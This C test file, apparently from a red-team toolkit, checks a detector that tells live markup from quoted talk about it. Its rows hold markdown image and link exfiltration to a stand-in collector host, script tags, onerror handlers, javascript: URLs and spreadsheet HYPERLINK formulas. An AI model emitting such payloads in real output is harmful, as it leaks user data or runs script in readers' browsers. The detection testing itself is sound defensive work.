/* Active markup is told from talk about it. */
#include "redteam/markup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include <string.h>

#define HOST "collector-17861.example"

static const struct {
    enum pl_redteam_markup markup;
    bool is_active;
    const char *text;
} ROWS[] = {
    {PL_REDTEAM_ADDRESS, true, "Here: ![x](https://collector-17861.example/pixel?d=1)"},
    {PL_REDTEAM_ADDRESS, true, "[Verify your account](HTTPS://Collector-17861.Example)"},
    {PL_REDTEAM_ADDRESS, true, "[a](<https://collector-17861.example>)"},
    {PL_REDTEAM_ADDRESS, true, "<img src='//collector-17861.example/p'>"},
    {PL_REDTEAM_ADDRESS, true, "<a class=b href=https://collector-17861.example>"},
    {PL_REDTEAM_ADDRESS, true, "[a]\n\n[a]: https://collector-17861.example/"},
    {PL_REDTEAM_ADDRESS, true, "`code` ![x](https://sub.collector-17861.example/)"},
    {PL_REDTEAM_ADDRESS, true, "I am sorry. ![x](https://collector-17861.example/)"},
    {PL_REDTEAM_ADDRESS, true, "an odd ` tick ![x](https://collector-17861.example/)"},
    {PL_REDTEAM_ADDRESS, false, "I shall not link to collector-17861.example."},
    {PL_REDTEAM_ADDRESS, false, "See https://collector-17861.example/pixel"},
    {PL_REDTEAM_ADDRESS, false, "`![x](https://collector-17861.example/)` is what you want"},
    {PL_REDTEAM_ADDRESS, false, "```\n![x](https://collector-17861.example/)\n```"},
    {PL_REDTEAM_ADDRESS, false, "```\n![x](https://collector-17861.example/)"},
    {PL_REDTEAM_ADDRESS, false, "![x](https://other.example/collector) collector-17861.example"},
    {PL_REDTEAM_ADDRESS, false, ""},
    {PL_REDTEAM_SCRIPT, true, "<script>alert(1)</script>"},
    {PL_REDTEAM_SCRIPT, true, "text <SCRIPT src=x>"},
    {PL_REDTEAM_SCRIPT, false, "a script element that calls alert"},
    {PL_REDTEAM_SCRIPT, false, "`<script>alert(1)</script>`"},
    {PL_REDTEAM_SCRIPT, false, "``a ` <script> ``"},
    {PL_REDTEAM_SCRIPT, false, "<scripture>"},
    {PL_REDTEAM_SCRIPT, false, "<script"},
    {PL_REDTEAM_HANDLER, true, "<img src=x onerror=alert(1)>"},
    {PL_REDTEAM_HANDLER, true, "<img src=\"x\"onerror = \"alert(1)\">"},
    {PL_REDTEAM_HANDLER, true, "<svg/onload=alert(1)>"},
    {PL_REDTEAM_HANDLER, false, "<img src=x> onerror=alert(1)"},
    {PL_REDTEAM_HANDLER, false, "<p>the attribute on = one</p>"},
    {PL_REDTEAM_HANDLER, false, "an error handler, onerror=, on an element"},
    {PL_REDTEAM_HANDLER, false, "5 < 6 onerror=1"},
    {PL_REDTEAM_HANDLER, false, "<img src=x on"},
    {PL_REDTEAM_SCRIPT_ADDRESS, true, "[Details](javascript:alert(1))"},
    {PL_REDTEAM_SCRIPT_ADDRESS, true, "<a href=\"JavaScript:alert(1)\">x</a>"},
    {PL_REDTEAM_SCRIPT_ADDRESS, false, "the scheme javascript: is not allowed"},
    {PL_REDTEAM_SCRIPT_ADDRESS, false, "`[Details](javascript:alert(1))`"},
    {PL_REDTEAM_FORMULA, true, "a,b\n=HYPERLINK(\"https://collector-17861.example\",\"Open\"),2"},
    {PL_REDTEAM_FORMULA, true, "1,\"=HYPERLINK(\"\"https://collector-17861.example\"\")\""},
    {PL_REDTEAM_FORMULA, false, "a,b\n'=HYPERLINK(\"https://collector-17861.example\")"},
    {PL_REDTEAM_FORMULA, false, "a formula that links to collector-17861.example"},
    {PL_REDTEAM_FORMULA, false, "=SUM(A1:A2)"},
};

static void active_markup_is_told_from_talk_about_it(void **state)
{
    char bare[256];

    (void)state;
    for (size_t i = 0; i < sizeof ROWS / sizeof *ROWS; i++) {
        struct pl_str text = pl_str_of(ROWS[i].text);

        assert_true(text.len < sizeof bare);
        if (ROWS[i].markup != PL_REDTEAM_FORMULA)
            text = (struct pl_str){bare, pl_markup_without_code(text, bare)};
        if (pl_markup_has(ROWS[i].markup, text, PL_STR(HOST)) != ROWS[i].is_active)
            fail_msg("'%s' is %sactive", ROWS[i].text, ROWS[i].is_active ? "" : "not ");
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(active_markup_is_told_from_talk_about_it),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
